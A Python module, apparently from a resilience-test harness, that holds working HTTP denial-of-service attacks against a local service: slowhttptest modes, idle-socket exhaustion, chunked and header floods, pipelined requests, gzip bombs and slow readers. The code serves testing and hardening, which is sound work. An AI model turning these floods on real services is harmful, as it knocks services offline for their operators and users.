"""Ways to hold or flood an HTTP port: slowhttptest's four, and what it cannot do. Each lasts until it is cancelled.

Each runs as a process of its own (`python -m proof.clients.attacks NAME TARGET`), so that it takes no turn from the
client that measures. An attack never ends by itself and never complains: whatever the
instance does to it is the instance's business.
"""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import json
import signal
import sys
from collections.abc import AsyncIterator, Awaitable, Callable, Mapping
from dataclasses import asdict, dataclass
from functools import partial
from pathlib import Path

from proof.harness.programs import NotRunError, find_program

Attack = Callable[["AttackTarget"], Awaitable[None]]
REPOSITORY = Path(__file__).resolve().parents[2]
STANDING = b"standing\n"
STANDING_SECONDS = 0.7
CONNECTIONS = 1_000
"""Of each mode of slowhttptest."""
IDLE_SOCKETS = 2_000
HANDS = 8
"""Connections of an attack that floods: more would only be in each other's way."""
REDIAL_SECONDS = 0.2
PIECE_SECONDS = 0.02
"""Between pieces of 64 kB: eight hands together fill a line of 200 Mbit/s, not a core of this machine."""
BOMB_BYTES = 200_000_000
"""What 194 kB of gzip unpack to."""


@dataclass(frozen=True, slots=True)
class AttackTarget:
    """What is attacked. ``key`` is that of a device of the attacker's: even who may send may not hold the door."""

    port: int
    key: str
    device: str
    tls: bool = False

    @property
    def url(self) -> str:
        """Its address."""
        return f"http{'s' if self.tls else ''}://127.0.0.1:{self.port}"

    def post(self, *headers: str, path: str = "/api/v1/feeds/rainfall/events") -> bytes:
        """Return the header of a POST with the key."""
        lines = [f"POST {path} HTTP/1.1", "Host: 127.0.0.1", f"Authorization: Bearer {self.key}",
                 "Content-Type: application/json", *headers]  # fmt: skip
        return ("\r\n".join(lines) + "\r\n\r\n").encode()


async def slowhttptest(target: AttackTarget, *, mode: str, path: str = "/") -> None:
    """Run slowhttptest in one of its modes (H, B, R, X).

    Raises:
        NotRunError: it is not installed.
    """
    program = find_program("slowhttptest")
    if program is None:
        raise NotRunError("slowhttptest is not installed")
    more = ["-w", "16", "-y", "64", "-n", "1", "-z", "5", "-k", "3"] if mode == "X" else ["-s", "200000"]
    process = await asyncio.create_subprocess_exec(
        program, f"-{mode}", "-c", str(CONNECTIONS), "-r", "200", "-i", "1", "-l", "600", "-p", "3", "-v", "0",
        "-u", target.url + path, *more, stdin=asyncio.subprocess.DEVNULL, stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
    )  # fmt: skip
    try:
        await process.wait()
        await asyncio.Event().wait()  # it gave up; the time of the attack is the judge's
    finally:
        with contextlib.suppress(ProcessLookupError):
            process.kill()
        await process.wait()


@contextlib.asynccontextmanager
async def _dialled(target: AttackTarget) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    reader, writer = await asyncio.open_connection("127.0.0.1", target.port)
    try:
        yield reader, writer
    finally:
        writer.transport.abort()


async def _again(
    target: AttackTarget, work: Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]
) -> None:
    """Do it over and over, each time on a connection of its own."""
    while True:
        with contextlib.suppress(OSError, EOFError):
            async with _dialled(target) as (reader, writer):
                await work(reader, writer)
        await asyncio.sleep(REDIAL_SECONDS)


async def _hands(target: AttackTarget, count: int, work: Callable[..., Awaitable[None]]) -> None:
    async with asyncio.TaskGroup() as group:
        for _ in range(count):
            group.create_task(_again(target, partial(work, target)))


async def idle(target: AttackTarget) -> None:
    """Open two thousand sockets and say nothing."""
    held = []
    try:
        for _ in range(IDLE_SOCKETS):
            with contextlib.suppress(OSError):
                held.append(await asyncio.open_connection("127.0.0.1", target.port))
        await asyncio.Event().wait()
    finally:
        for _, writer in held:
            writer.transport.abort()


async def chunks_for_ever(target: AttackTarget) -> None:
    """Send bodies without end, in chunks of 64 kB and of one byte."""

    async def work(target: AttackTarget, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        del reader
        writer.write(target.post("Transfer-Encoding: chunked"))
        for _ in range(200):
            writer.write(b"10000\r\n" + b"[" * 65_536 + b"\r\n")
            writer.write(b"1\r\n[\r\n" * 1_000)
            await writer.drain()
            await asyncio.sleep(PIECE_SECONDS)

    await _hands(target, HANDS, work)


async def header_bomb(target: AttackTarget) -> None:
    """Send headers of twenty megabytes."""

    async def work(target: AttackTarget, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        del target, reader
        writer.write(b"GET / HTTP/1.1\r\nHost: x\r\n")
        for number in range(320):
            writer.write(b"X-%d: " % number + b"b" * 65_536 + b"\r\n")
            await writer.drain()
            await asyncio.sleep(PIECE_SECONDS)

    await _hands(target, HANDS, work)


async def pipeline(target: AttackTarget) -> None:
    """Send ten thousand requests at once."""

    async def work(target: AttackTarget, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        del target
        writer.write(b"GET /livez HTTP/1.1\r\nHost: x\r\n\r\n" * 10_000)
        while await reader.read(1 << 16):
            pass

    await _hands(target, 2, work)


async def gzip_bombs(target: AttackTarget) -> None:
    """Send what unpacks to a thousand times its size."""
    bomb = gzip.compress(b"\0" * BOMB_BYTES, 9)

    async def work(target: AttackTarget, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(target.post("Content-Encoding: gzip", f"Content-Length: {len(bomb)}") + bomb)
        await reader.readuntil(b"\r\n\r\n")

    await _hands(target, HANDS, work)


async def slow_bodies(target: AttackTarget) -> None:
    """Send bodies a byte at a time, with a key that may send."""

    async def work(target: AttackTarget, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        del reader
        writer.write(target.post("Content-Length: 100000"))
        while not writer.is_closing():
            writer.write(b"[")
            await asyncio.sleep(1.0)

    await _hands(target, 200, work)


async def deaf(target: AttackTarget) -> None:
    """Ask for the largest file over and over and read nothing."""

    async def work(target: AttackTarget, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        del target, reader
        writer.transport.pause_reading()  # type: ignore[attr-defined] # the stream's own transport can
        writer.write(
            b"GET /api/v1/layers HTTP/1.1\r\nHost: x\r\n\r\n" * 200 + b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" * 200
        )
        await asyncio.sleep(600)

    await _hands(target, 100, work)


ATTACKS: Mapping[str, Attack] = {
    "slow headers (-H)": partial(slowhttptest, mode="H"),
    "slow body (-B)": partial(slowhttptest, mode="B", path="/api/v1/feeds/rainfall/events"),
    "range (-R)": partial(slowhttptest, mode="R"),
    "slow read (-X)": partial(slowhttptest, mode="X"),
    "2,000 idle sockets": idle,
    "chunked floods": chunks_for_ever,
    "headers of 20 MB": header_bomb,
    "10,000 pipelined requests": pipeline,
    "gzip bombs": gzip_bombs,
    "slow bodies with a key": slow_bodies,
    "deaf readers": deaf,
}


@contextlib.asynccontextmanager
async def under_attack(target: AttackTarget, name: str) -> AsyncIterator[None]:
    """Let an attack stand inside the block.

    Raises:
        NotRunError: a program that it needs is not installed.
    """
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "proof.clients.attacks", name, json.dumps(asdict(target)), cwd=REPOSITORY,
        stdin=asyncio.subprocess.DEVNULL, stdout=asyncio.subprocess.PIPE,
    )  # fmt: skip
    assert process.stdout is not None
    try:
        said = await process.stdout.readline()
        if said != STANDING:
            raise NotRunError(f"the attack {name!r} did not begin")
        await asyncio.sleep(STANDING_SECONDS)
        yield
        if process.returncode is not None:
            raise NotRunError(f"the attack {name!r} ended by itself")
    finally:
        with contextlib.suppress(ProcessLookupError):
            process.terminate()
        await process.wait()


async def attack(name: str, target: AttackTarget) -> None:
    """Attack until SIGTERM."""
    work = asyncio.ensure_future(ATTACKS[name](target))
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, work.cancel)
    sys.stdout.buffer.write(STANDING)
    sys.stdout.flush()
    with contextlib.suppress(asyncio.CancelledError):
        await work


if __name__ == "__main__":
    asyncio.run(attack(sys.argv[1], AttackTarget(**json.loads(sys.argv[2]))))
